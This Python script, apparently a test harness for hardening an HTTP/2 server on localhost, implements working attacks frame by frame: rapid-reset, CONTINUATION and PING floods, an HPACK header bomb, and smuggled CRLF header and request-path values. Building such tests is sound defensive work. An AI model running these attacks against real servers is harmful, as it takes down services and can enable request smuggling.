"""Speaks HTTP/2 to a server as no client should, frame by frame (RFC 9113), and prints what became of it.

usage: hostile_http2.py PORT CERTIFICATE ATTACK PATH KEY

Prints one line of JSON: `end` is `goaway`, `closed`, `stalled` (the server reads no more), or `open`; `statuses` the answers by their
number; `resets` the streams that the server gave up; `sent` how much of the attack went out; `bytes` what came of bodies.
"""

import collections
import json
import socket
import ssl
import struct
import sys
import time

DATA, HEADERS, RESET, SETTINGS, PING, GOAWAY, WINDOW, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS, ACK = 1, 4, 1
# Nothing of the server's may take longer than this, whatever else the machine does.
PATIENCE = 100


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def integer(value, prefix, first):
    """HPACK's integers (RFC 7541 §5.1)."""
    most = (1 << prefix) - 1
    if value < most:
        return bytes([first | value])
    out, value = bytes([first | most]), value - most
    while value >= 128:
        out, value = out + bytes([value % 128 + 128]), value // 128
    return out + bytes([value])


def text(value):
    value = value if isinstance(value, bytes) else value.encode()
    return integer(len(value), 7, 0) + value


def literal(name, value, indexed=False):
    return (b"\x40" if indexed else b"\x00") + text(name) + text(value)


def number(value, is_packed):
    """Digits, plain or in HPACK's Huffman code (RFC 7541, appendix B)."""
    if not is_packed:
        return int(value)
    bits, digits = "".join(f"{byte:08b}" for byte in value), ""
    codes = {f"{n:05b}": str(n) for n in range(3)} | {f"{n + 22:06b}": str(n) for n in range(3, 10)}
    while True:
        code = next((code for code in codes if bits.startswith(code)), None)
        if code is None or len(digits) == 3:
            return int(digits)
        digits, bits = digits + codes[code], bits[len(code) :]


class Connection:
    def __init__(self, port, certificate, settings=(), buffer=None):
        context = ssl.create_default_context(cafile=certificate)
        context.set_alpn_protocols(["h2"])
        plain = socket.socket()
        if buffer:
            plain.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, buffer)
        plain.settimeout(PATIENCE)
        plain.connect(("127.0.0.1", port))
        self.socket = context.wrap_socket(plain, server_hostname="127.0.0.1")
        assert self.socket.selected_alpn_protocol() == "h2"
        self.buffer, self.statuses, self.resets = b"", collections.Counter(), collections.Counter()
        self.goaway, self.closed, self.bytes, self.ended, self.acks = None, False, 0, set(), 0
        self.answered = {}
        # What may be sent: in all, and on the first stream.
        self.windows = {0: 65_535, 1: 65_535}
        self.send(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", *s) for s in settings)))

    def request(self, method, path, key, more=b"", length=None):
        block = literal(":method", method) + literal(":scheme", "https") + literal(":path", path) + literal(":authority", "x")
        block += literal("authorization", "Bearer " + key)
        if length is not None:
            block += literal("content-length", str(length)) + literal("content-type", "application/json")
        return block + more

    def send(self, data, wait=PATIENCE):
        """Whether all of it went out."""
        self.socket.settimeout(wait)
        try:
            self.socket.sendall(data)
            return True
        except (TimeoutError, ssl.SSLWantWriteError):
            return False
        except OSError:
            self.closed = True
            return False

    def take(self, wait):
        """Reads what comes within `wait` seconds; False when nothing did."""
        self.socket.settimeout(wait)
        try:
            data = self.socket.recv(1 << 16)
        except (TimeoutError, ssl.SSLWantReadError):
            return False
        except OSError:
            data = b""
        if not data:
            self.closed = True
            return False
        self.buffer += data
        while len(self.buffer) >= 9:
            length = int.from_bytes(self.buffer[:3], "big")
            if len(self.buffer) < 9 + length:
                break
            kind, flags, stream = struct.unpack(">BBI", self.buffer[3:9])
            payload, self.buffer = self.buffer[9 : 9 + length], self.buffer[9 + length :]
            self.heard(kind, flags, stream & 0x7FFFFFFF, payload)
        return True

    def heard(self, kind, flags, stream, payload):
        if kind == HEADERS and stream not in self.answered:
            # The status comes first; the eight common ones are in HPACK's table, others are written out.
            known = {0x88: 200, 0x89: 204, 0x8A: 206, 0x8B: 304, 0x8C: 400, 0x8D: 404, 0x8E: 500}
            status = known.get(payload[0], 0)
            if status == 0:
                status = number(payload[2 : 2 + (payload[1] & 127)], payload[1] & 128)
            self.answered[stream] = status
            self.statuses[status] += 1
        if kind == DATA:
            self.bytes += len(payload)
        if kind == WINDOW and stream in self.windows:
            self.windows[stream] += int.from_bytes(payload, "big")
        if kind == RESET:
            self.resets[int.from_bytes(payload, "big")] += 1
            self.ended.add(stream)
        if kind == GOAWAY:
            self.goaway = int.from_bytes(payload[4:8], "big")
        if kind in (SETTINGS, PING) and flags & ACK:
            self.acks += 1
        if flags & END_STREAM and kind in (HEADERS, DATA):
            self.ended.add(stream)

    def until(self, enough):
        """Reads until `enough` says so or the connection ends; whether it did say so."""
        limit = time.monotonic() + PATIENCE
        while time.monotonic() < limit and not enough(self) and not self.closed:
            self.take(0.2)
        return enough(self)

    def report(self, sent, end=None):
        if end is None:
            end = "goaway" if self.goaway is not None else "closed" if self.closed else "open"
        print(json.dumps({
            "end": end, "code": self.goaway, "sent": sent, "bytes": self.bytes, "acks": self.acks,
            "statuses": {str(key): count for key, count in self.statuses.items()},
            "resets": {str(key): count for key, count in self.resets.items()},
        }))


def gone(connection):
    return connection.goaway is not None or connection.closed


def flood(connection, pieces, reads):
    """Sends piece after piece until the server has had enough."""
    sent = 0
    for piece in pieces:
        if not connection.send(piece, 5):
            if connection.closed:
                break
            # It reads no more; or it has said why, and nobody has read that yet.
            connection.take(0.1)
            connection.report(sent, None if gone(connection) else "stalled")
            return
        sent += 1
        if reads:
            connection.take(0.0001)
        if gone(connection):
            break
    connection.until(gone) if not reads or not gone(connection) else None
    connection.report(sent)


def main():
    port, certificate, attack, path, key = int(sys.argv[1]), *sys.argv[2:6]
    if attack == "window-zero":
        c = Connection(port, certificate, [(4, 0)])
        c.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, c.request("GET", path, key)))
        c.until(lambda c: gone(c) or 1 in c.ended)
        c.report(1)
    elif attack == "never-reads":
        c = Connection(port, certificate, [(4, 0x7FFFFFFF)], buffer=4096)
        c.send(frame(WINDOW, 0, 0, struct.pack(">I", 0x7FFF0000 - 65535)))
        c.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, c.request("GET", path, key)))
        # The server's patience is a part of this.
        time.sleep(6)
        c.until(lambda c: c.closed or 1 in c.ended)
        c.report(1)
    elif attack == "rapid-reset":
        c = Connection(port, certificate)
        pairs = (
            frame(HEADERS, END_HEADERS | END_STREAM, n, c.request("GET", path, key)) + frame(RESET, 0, n, struct.pack(">I", 8))
            for n in range(1, 40_000, 2))
        flood(c, pairs, True)
    elif attack == "continuation-flood":
        c = Connection(port, certificate)
        first = [frame(HEADERS, END_STREAM, 1, c.request("GET", path, key))]
        flood(c, first + [frame(CONTINUATION, 0, 1, literal("x-a", "b" * 100))] * 20_000, True)
    elif attack == "empty-continuations":
        c = Connection(port, certificate)
        first = [frame(HEADERS, END_STREAM, 1, c.request("GET", path, key))]
        flood(c, first + [frame(CONTINUATION, 0, 1)] * 20_000, True)
    elif attack == "header-bomb":
        # One entry of the table, named again and again: each byte stands for four thousand.
        c = Connection(port, certificate)
        bomb = literal("x-bomb", "b" * 4_000, indexed=True) + bytes([0x80 | 62]) * 12_000
        c.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, c.request("GET", path, key, bomb)))
        c.until(lambda c: gone(c) or 1 in c.ended)
        c.report(1)
    elif attack == "many-headers":
        c = Connection(port, certificate)
        many = b"".join(literal(f"x-{n}", "") for n in range(1_200))
        c.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, c.request("GET", path, key, many)))
        c.until(lambda c: gone(c) or 1 in c.ended)
        c.report(1)
    elif attack == "many-streams":
        c = Connection(port, certificate)
        for n in range(1, 801, 2):
            if not c.send(frame(HEADERS, END_HEADERS | END_STREAM, n, c.request("GET", path, key, literal("prefer", "wait=60")))):
                break
        # Those that are taken wait; the others are refused at once.
        c.until(lambda c: gone(c) or sum(c.resets.values()) >= 300)
        c.report(400)
    elif attack == "settings-flood":
        c = Connection(port, certificate)
        flood(c, [frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535 + n % 7)) * 200 for n in range(4_000)], False)
    elif attack == "ping-flood":
        c = Connection(port, certificate, buffer=4096)
        flood(c, [frame(PING, 0, 0, b"12345678") * 200] * 6_000, False)
    elif attack == "empty-data-flood":
        c = Connection(port, certificate)
        first = [frame(HEADERS, END_HEADERS, 1, c.request("POST", path, key, length=100))]
        flood(c, first + [frame(DATA, 0, 1)] * 20_000, True)
    elif attack == "window-overflow":
        c = Connection(port, certificate)
        flood(c, [frame(WINDOW, 0, 0, struct.pack(">I", 0x7FFFFFFF))] * 3, True)
    elif attack == "priority-flood":
        c = Connection(port, certificate)
        # Only what it costs: nothing is forbidden about it.
        pieces = [frame(2, 0, n, struct.pack(">IB", 0, 7)) for n in range(1, 100_001, 2)]
        for start in range(0, len(pieces), 500):
            if not c.send(b"".join(pieces[start : start + 500])):
                break
        c.send(frame(PING, 0, 0, b"12345678"))
        c.until(lambda c: gone(c) or c.acks > 1)
        c.report(len(pieces))
    elif attack == "idle":
        c = Connection(port, certificate)
        c.until(gone)
        c.report(0)
    elif attack == "pings-instead-of-requests":
        c = Connection(port, certificate)
        limit = time.monotonic() + PATIENCE
        while not gone(c) and time.monotonic() < limit:
            c.send(frame(PING, 0, 0, b"12345678"))
            c.take(0.05)
        c.report(0)
    elif attack == "half-a-head":
        c = Connection(port, certificate)
        c.send(frame(HEADERS, END_STREAM, 1, c.request("GET", path, key)))
        c.until(gone)
        c.report(1)
    elif attack == "trickled-body":
        c = Connection(port, certificate)
        c.send(frame(HEADERS, END_HEADERS, 1, c.request("POST", path, key, length=1_000_000)))
        limit = time.monotonic() + PATIENCE
        while not gone(c) and 1 not in c.ended and time.monotonic() < limit:
            c.send(frame(DATA, 0, 1, b" "))
            c.take(0.02)
        c.report(1)
    elif attack == "giant-body":
        # As much as both windows allow, for as long as they do.
        c = Connection(port, certificate)
        c.send(frame(HEADERS, END_HEADERS, 1, c.request("POST", path, key, length=1 << 30)))
        sent, limit = 0, time.monotonic() + PATIENCE
        while not gone(c) and 1 not in c.ended and 1 not in c.answered and time.monotonic() < limit:
            room = min(16_384, c.windows[0], c.windows[1])
            if room <= 0:
                c.take(0.1)
                continue
            if not c.send(frame(DATA, 0, 1, b" " * room)):
                break
            sent += room
            c.windows[0] -= room
            c.windows[1] -= room
            c.take(0.0001)
        c.until(lambda c: gone(c) or 1 in c.ended)
        c.report(sent)
    else:
        # Requests that mean two things, or none: each alone on a connection, none may be answered with success.
        shapes = {
            "no-path": literal(":method", "GET") + literal(":scheme", "https") + literal(":authority", "x"),
            "two-paths": literal(":path", "/healthz") * 2 + literal(":method", "GET") + literal(":scheme", "https"),
            "late-pseudo": literal(":method", "GET") + literal(":scheme", "https") + literal("a", "b") + literal(":path", "/healthz"),
            "unknown-pseudo": literal(":method", "GET") + literal(":scheme", "https") + literal(":path", "/healthz") + literal(":x", "y"),
            "upper-case": literal(":method", "GET") + literal(":scheme", "https") + literal(":path", "/healthz") + literal("X-Upper", "y"),
            "connection-header": literal(":method", "GET") + literal(":scheme", "https") + literal(":path", "/healthz") + literal("connection", "close"),
            "transfer-encoding": literal(":method", "POST") + literal(":scheme", "https") + literal(":path", "/sign-in") + literal("transfer-encoding", "chunked"),
            "line-end-in-value": literal(":method", "GET") + literal(":scheme", "https") + literal(":path", "/healthz") + literal("x-a", "b\r\nx-c: d"),
            "line-end-in-path": literal(":method", "GET") + literal(":scheme", "https") + literal(":path", "/healthz HTTP/1.1\r\nx: y\r\n\r\nGET /"),
            "line-end-in-name": literal(":method", "GET") + literal(":scheme", "https") + literal(":path", "/healthz") + literal("x\r\ny", "z"),
            "nul-in-value": literal(":method", "GET") + literal(":scheme", "https") + literal(":path", "/healthz") + literal("x-a", b"b\0c"),
            "space-in-method": literal(":method", "GET /x") + literal(":scheme", "https") + literal(":path", "/healthz"),
            "no-utf8-in-path": literal(":method", "GET") + literal(":scheme", "https") + literal(":path", b"/api/v1/jobs/\xff\xfe"),
            "two-lengths": literal(":method", "POST") + literal(":scheme", "https") + literal(":path", "/sign-in") + literal("content-length", "0") + literal("content-length", "5"),
            "broken-block": b"\xff\xff\xff\xff\xff\xff\xff\xff\xff\x0f",
            "unknown-index": bytes([0x80 | 70]),
        }
        c = Connection(port, certificate)
        flags = END_HEADERS if attack in ("transfer-encoding", "two-lengths") else END_HEADERS | END_STREAM
        c.send(frame(HEADERS, flags, 1, shapes[attack]))
        if flags == END_HEADERS:
            c.send(frame(DATA, END_STREAM, 1, b"0\r\n\r\n"))
        c.until(lambda c: gone(c) or 1 in c.ended)
        c.report(1)


main()
